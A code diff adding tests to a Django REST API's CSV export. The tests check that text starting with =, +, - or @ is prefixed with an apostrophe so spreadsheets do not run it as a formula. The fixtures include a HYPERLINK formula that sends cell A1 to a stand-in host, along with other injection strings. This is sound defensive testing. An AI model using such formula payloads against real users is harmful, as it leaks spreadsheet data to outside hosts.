@@ -343,3 +343,54 @@ def test_the_compiled_statements_give_the_serializers_output_at_every_size(compe
     expected = [ProgramSerializer(p).data for p in programs]
     got = programs_as_dicts(ids[:count])
     assert got == (expected * 2)[:count]
+
+
+FORMULAS = ['=HYPERLINK("http://example.org/?x="&A1,"ver")', "+52 55 1234", "-guion", "@SUMA(A1)"]
+
+
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(anon, make_report):
+    for number, title in enumerate(FORMULAS, start=1):
+        make_report(institution="SRE", status=S.PUBLISHED, number=number, title=title)
+    sneaky = Institution.objects.get(acronym="SRE")
+    sneaky.name = "=1+1"
+    sneaky.save()
+
+    response = anon.get(URL, {"format": "csv"})
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
+    rows.sort(key=lambda row: int(row["number"]))  # numbers stay numbers
+    assert [row["title"] for row in rows] == [f"'{title}" for title in FORMULAS]
+    assert [row["number"] for row in rows] == ["1", "2", "3", "4"]
+    institutions = anon.get("/api/v1/institutions/", {"format": "csv", "page_size": 500})
+    names = {
+        row["acronym"]: row["name"]
+        for row in csv.DictReader(io.StringIO(institutions.content.decode("utf-8")))
+    }
+    assert names["SRE"] == "'=1+1"
+
+
+def test_the_csv_renderer_writes_numbers_as_numbers_and_neutralises_text():
+    from rest_framework import serializers
+
+    from observatorio.api.renderers import CSVRenderer
+
+    class Figure(serializers.Serializer):
+        label = serializers.CharField()
+        value = serializers.DecimalField(max_digits=8, decimal_places=2)
+        delta = serializers.IntegerField()
+        ratio = serializers.FloatField()
+
+    class View:
+        def get_serializer_class(self):
+            return Figure
+
+    rows = [
+        {"label": "-3 personas", "value": "-3.50", "delta": -3, "ratio": -0.5},
+        {"label": "=1+1", "value": "12.00", "delta": 4, "ratio": 1.25},
+    ]
+
+    data = CSVRenderer().render(rows, renderer_context={"view": View()}).decode("utf-8")
+
+    assert data == (
+        "label,value,delta,ratio\r\n'-3 personas,-3.50,-3,-0.5\r\n'=1+1,12.00,4,1.25\r\n"
+    )
